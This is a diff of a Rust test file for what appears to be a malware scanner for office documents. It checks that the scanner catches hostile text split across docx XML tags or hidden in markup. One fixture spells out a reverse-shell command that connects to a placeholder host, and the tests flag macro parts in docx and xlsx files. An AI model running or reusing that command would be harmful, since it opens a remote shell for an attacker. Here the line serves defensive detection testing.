@@ -338,6 +338,10 @@ fn documents_are_read_without_their_markup() {
     // A word that is cut by tags.
     let cut = b"<w:p><w:r><w:t>bash -i &gt;&amp; /dev/t</w:t></w:r><w:r><w:t>cp/collector.invalid/4444 0&gt;&amp;1</w:t></w:r></w:p>";
     let report = scan([("letter.docx", docx(&[("word/document.xml", cut)]))]);
+    expect_evil(&report, "letter.docx!/word/document.xml (text)");
+    // What stands in the markup is read as well.
+    let report =
+        scan([("letter.docx", docx(&[("word/document.xml", format!("<w:p><{EVIL}/></w:p>").as_bytes())]))]);
     expect_evil(&report, "letter.docx!/word/document.xml");
     for (name, part) in [("letter.docx", "word/vbaProject.bin"), ("sheet.xlsx", "xl/macrosheets/sheet1.xml")]
     {
